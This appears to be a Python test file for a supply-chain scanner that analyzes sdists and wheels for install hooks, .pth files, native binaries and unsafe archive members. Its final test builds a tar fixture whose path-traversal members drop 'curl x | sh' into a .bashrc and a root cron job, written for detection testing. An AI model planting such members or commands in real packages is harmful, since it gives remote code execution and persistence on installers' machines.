"""bot.analysis.artifact: orchestration over real in-memory sdists and wheels.

The Python analyzer here is a small honest stand-in: it reports one finding per line that
contains MARKER, falls back on files containing BROKEN, and stops early on STOP.
"""

from __future__ import annotations

import pickle

from hypothesis import given, settings
from hypothesis import strategies as st

from bot.analysis.artifact import ArtifactAnalysis, analyze_artifact, artifact_mismatch_between
from bot.analysis.cache import DictFileResultCache
from bot.analysis.roles import ArtifactKind
from bot.analysis.types import FileAnalysis, FileRole, SourceFile
from bot.archive import ArchiveLimits
from bot.model import AlertType, Finding, Severity
from tests.analysis.builders import (
    build_sdist,
    build_wheel,
    raw_zip,
    sdist_filename,
    wheel_filename,
)

CALLS: list[tuple[str, FileRole]] = []


def marker_analyzer(file: SourceFile) -> FileAnalysis:
    CALLS.append((file.path, file.role))
    text = file.data.decode("utf-8", errors="replace")
    findings = tuple(
        Finding(type=AlertType.SHELL, severity=Severity.MEDIUM, file=file.path, line=number,
                evidence=line.strip(), reason=f"marker in a {file.role} file", api="marker",
                normalized=line.strip())
        for number, line in enumerate(text.splitlines(), start=1) if "MARKER" in line
    )
    return FileAnalysis(findings=findings, parsed="BROKEN" not in text,
                        incomplete_reason="stopped at STOP" if "STOP" in text else None)


def deep_analyzer(file: SourceFile) -> FileAnalysis:
    raise RecursionError("maximum recursion depth exceeded")


def analyze(data: bytes, filename: str, **options: object) -> ArtifactAnalysis:
    CALLS.clear()
    return analyze_artifact(data, filename, python_analyzer=marker_analyzer,
                            **options)  # type: ignore[arg-type]


SDIST_FILES = {
    "setup.py": "from setuptools import setup\nsetup()  # MARKER setup\n",
    "src/demo/__init__.py": "MARKER = 'init'\n",
    "src/demo/core.py": "x = 1\n# MARKER core\n",
    "src/demo/data.json": "{\"MARKER\": 1}\n",
    "tests/test_core.py": "MARKER in tests\n",
    "docs/conf.py": "MARKER in docs\n",
}


def test_sdist_files_get_roles_and_tests_are_skipped() -> None:
    filename = sdist_filename("demo", "1.0")
    result = analyze(build_sdist("demo", "1.0", SDIST_FILES), filename)
    assert sorted(CALLS) == [("setup.py", FileRole.INSTALL_TIME),
                             ("src/demo/__init__.py", FileRole.PACKAGE_INIT),
                             ("src/demo/core.py", FileRole.MODULE)]
    assert [(f.file, f.line, f.reason, f.artifact, f.not_installed) for f in result.findings] == [
        ("setup.py", 2, "marker in a install-time file", filename, False),
        ("src/demo/__init__.py", 1, "marker in a package-init file", filename, False),
        ("src/demo/core.py", 2, "marker in a module file", filename, False),
    ]
    assert (result.kind, result.files_total, result.files_analyzed, result.files_from_cache,
            result.parse_fallbacks, result.incomplete_reasons) == (
        ArtifactKind.SDIST, 8, 3, 0, 0, ())
    assert "tests/test_core.py" in result.paths


def test_not_installed_files_are_analyzed_and_marked_on_request() -> None:
    result = analyze(build_sdist("demo", "1.0", SDIST_FILES), "demo-1.0.tar.gz",
                     include_not_installed=True)
    marked = {f.file: f.not_installed for f in result.findings}
    assert marked == {"setup.py": False, "src/demo/__init__.py": False,
                      "src/demo/core.py": False, "tests/test_core.py": True,
                      "docs/conf.py": True}


def test_wheel_findings_from_code_binaries_pth_and_startup_modules() -> None:
    filename = wheel_filename("demo", "1.0", "cp311-cp311-manylinux_2_17_x86_64")
    data = build_wheel("demo", "1.0", {
        "demo/__init__.py": "",
        "demo/_speed.cpython-311-x86_64-linux-gnu.so": b"\x7fELF" + bytes(100),
        "demo/logo.png": b"\x7fELF" + bytes(100),
        "demo_hook.pth": "import demo._boot\n",
        "sitecustomize.py": "# MARKER at startup\n",
    }, tag="cp311-cp311-manylinux_2_17_x86_64")
    result = analyze(data, filename)
    assert CALLS == [("demo/__init__.py", FileRole.PACKAGE_INIT),
                     ("sitecustomize.py", FileRole.INSTALL_TIME)]
    assert [(f.type, f.api, f.file, f.artifact == filename) for f in result.findings] == [
        (AlertType.SHELL, "marker", "sitecustomize.py", True),
        (AlertType.NATIVE_CODE, "binary:.so", "demo/_speed.cpython-311-x86_64-linux-gnu.so",
         True),
        (AlertType.NATIVE_CODE, "binary:disguised", "demo/logo.png", True),
        (AlertType.PTH_HOOK, "pth:import", "demo_hook.pth", True),
        (AlertType.ARTIFACT_MISMATCH, "startup-module:sitecustomize", "sitecustomize.py",
         True),
    ]
    assert result.kind is ArtifactKind.WHEEL


def test_custom_build_backend_in_sdist() -> None:
    data = build_sdist("demo", "1.0", {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "hook"\n'
                          'backend-path = ["_build"]\n',
        "_build/hook.py": "# MARKER backend\n",
    })
    result = analyze(data, "demo-1.0.tar.gz")
    assert CALLS == [("_build/hook.py", FileRole.INSTALL_TIME)]
    assert [(f.type, f.api, f.file, f.line) for f in result.findings] == [
        (AlertType.SHELL, "marker", "_build/hook.py", 1),
        (AlertType.INSTALL_SCRIPT, "build-backend:in-tree", "pyproject.toml", 4),
    ]


def test_cache_skips_files_already_analyzed_in_any_artifact() -> None:
    cache = DictFileResultCache()
    sdist = analyze(build_sdist("demo", "1.0", SDIST_FILES), "demo-1.0.tar.gz", cache=cache)
    assert sdist.files_from_cache == 0
    wheel_files = {"demo/__init__.py": SDIST_FILES["src/demo/__init__.py"],
                   "demo/core.py": SDIST_FILES["src/demo/core.py"], "demo/new.py": "# MARKER\n"}
    wheel = analyze(build_wheel("demo", "1.0", wheel_files), "demo-1.0-py3-none-any.whl",
                    cache=cache)
    assert CALLS == [("demo/new.py", FileRole.MODULE)]
    assert (wheel.files_analyzed, wheel.files_from_cache) == (3, 2)
    # Cached results are re-labelled with this artifact and the file's path in it.
    assert {(f.file, f.artifact) for f in wheel.findings} == {
        ("demo/__init__.py", "demo-1.0-py3-none-any.whl"),
        ("demo/core.py", "demo-1.0-py3-none-any.whl"),
        ("demo/new.py", "demo-1.0-py3-none-any.whl"),
    }


def test_parse_fallbacks_and_file_incomplete_reasons_are_counted() -> None:
    data = build_wheel("demo", "1.0", {"demo/a.py": "BROKEN(\n", "demo/b.py": "STOP\n"})
    result = analyze(data, "demo-1.0-py3-none-any.whl")
    assert result.parse_fallbacks == 1
    assert result.incomplete_reasons == ("demo/b.py: stopped at STOP",)


def test_analyzer_recursion_is_an_incomplete_file() -> None:
    data = build_wheel("demo", "1.0", {"demo/deep.py": "x = " + "(" * 100 + ")" * 100})
    result = analyze_artifact(data, "demo.whl", python_analyzer=deep_analyzer)
    assert result.incomplete_reasons == ("demo/deep.py: analysis stopped: nesting too deep",)
    assert result.parse_fallbacks == 1


def test_unreadable_archive_is_an_incomplete_result() -> None:
    result = analyze(b"<html>oops</html>", "demo-1.0.tar.gz")
    assert result == ArtifactAnalysis(
        artifact="demo-1.0.tar.gz", kind=ArtifactKind.SDIST,
        incomplete_reasons=("demo-1.0.tar.gz: not a zip or tar archive",))


def test_unsafe_members_and_oversized_code_make_the_result_incomplete() -> None:
    data = raw_zip({"../evil.py": "MARKER", "demo/big.py": "# MARKER\n" * 500,
                    "demo/__init__.py": ""})
    result = analyze(data, "demo-1.0-py3-none-any.whl", limits=ArchiveLimits(max_file_bytes=1000))
    assert result.incomplete_reasons == (
        "'../evil.py' not analyzed: path traversal (..)",
        "demo/big.py not analyzed: larger than the 1000 byte file limit "
        "(scanned for threat tokens only)",
    )
    # The traversal itself is a finding; the oversized file (nothing in it) only a gap.
    assert [(f.type, f.api, f.file) for f in result.findings] == [
        (AlertType.UNSAFE_ARCHIVE, "archive:path-traversal", "../evil.py")
    ]


def test_analysis_is_picklable_for_worker_processes() -> None:
    result = analyze(build_sdist("demo", "1.0", SDIST_FILES), "demo-1.0.tar.gz")
    assert pickle.loads(pickle.dumps(result)) == result
    assert pickle.loads(pickle.dumps(marker_analyzer)) is marker_analyzer


def test_mismatch_between_analyzed_sdist_and_wheel() -> None:
    sdist = analyze(build_sdist("demo", "1.0", SDIST_FILES), "demo-1.0.tar.gz")
    wheel = analyze(build_wheel("demo", "1.0", {"demo/__init__.py": "", "evil.pth": "x\n"}),
                    "demo-1.0-py3-none-any.whl")
    found = artifact_mismatch_between(sdist, wheel)
    assert [(f.api, f.artifact) for f in found] == [
        ("wheel-only-pth:evil.pth", "demo-1.0-py3-none-any.whl")]


def test_python_scripts_without_suffix_are_analyzed() -> None:
    data = build_wheel("demo", "1.0", {
        "demo/__init__.py": "",
        "demo-1.0.data/scripts/demo-cli": "#!python\n# MARKER in a script\n",
        "demo-1.0.data/scripts/run.sh": "#!/bin/sh\n# MARKER not python\n",
    })
    result = analyze(data, "demo-1.0-py3-none-any.whl")
    assert CALLS == [("demo/__init__.py", FileRole.PACKAGE_INIT),
                     ("demo-1.0.data/scripts/demo-cli", FileRole.MODULE)]
    assert [(f.file, f.line) for f in result.findings] == [
        ("demo-1.0.data/scripts/demo-cli", 2)]
    sdist = analyze(build_sdist("demo", "1.0", {
        "bin/demo": "#!/usr/bin/env python3\n# MARKER\n"}), "demo-1.0.tar.gz")
    assert [(f.file, f.line) for f in sdist.findings] == [("bin/demo", 2)]


_NAMES = st.lists(st.sampled_from(["src", "demo", "tests", "..", ".", "", "a.py", "setup.py",
                                   "x.pth", "pyproject.toml", "PKG-INFO", "bin", "C:",
                                   "__init__.py", "top_level.txt", "demo.egg-info"]),
                  min_size=1, max_size=4).map("/".join)
_CONTENT = st.one_of(st.binary(max_size=200),
                     st.sampled_from(["import os\n", "[build-system]\nbackend-path = ['.']\n"
                                      "build-backend = 'demo'\n", "#!python\nMARKER\n",
                                      "\x7fELF", "Name: demo\n"]))


@settings(max_examples=80, deadline=None)
@given(st.dictionaries(_NAMES, _CONTENT, max_size=6), st.booleans())
def test_any_layout_analyzes_without_crashing(files: dict[str, str | bytes], wheel: bool) -> None:
    if wheel:
        result = analyze(build_wheel("demo", "1.0", files), "demo-1.0-py3-none-any.whl")
    else:
        result = analyze(build_sdist("demo", "1.0", files), "demo-1.0.tar.gz")
    assert result.files_analyzed <= result.files_total
    assert all(f.artifact == result.artifact for f in result.findings)


def test_hostile_members_raise_an_unsafe_archive_alert() -> None:
    from bot.analysis.artifact import analyze_artifact
    from bot.analysis.python_code import analyze_python
    from bot.model import AlertType
    from tests.analysis.builders import TarEntry, raw_tar

    data = raw_tar(
        [
            TarEntry(name="evil-1.0/setup.py", data=b"from setuptools import setup\nsetup()\n"),
            TarEntry(name="evil-1.0/../../home/user/.bashrc", data=b"curl x | sh\n"),
            TarEntry(name="evil-1.0/../../etc/cron.d/x", data=b"* * * * * root sh\n"),
        ]
    )
    result = analyze_artifact(data, "evil-1.0.tar.gz", python_analyzer=analyze_python)
    unsafe = [f for f in result.findings if f.type is AlertType.UNSAFE_ARCHIVE]
    assert [(f.api, f.file) for f in unsafe] == [
        ("archive:path-traversal", "evil-1.0/../../home/user/.bashrc")
    ]
    assert unsafe[0].reason == (
        "The archive has a member an installer could be tricked with "
        "(path traversal (..)); capdiff skipped it."
    )
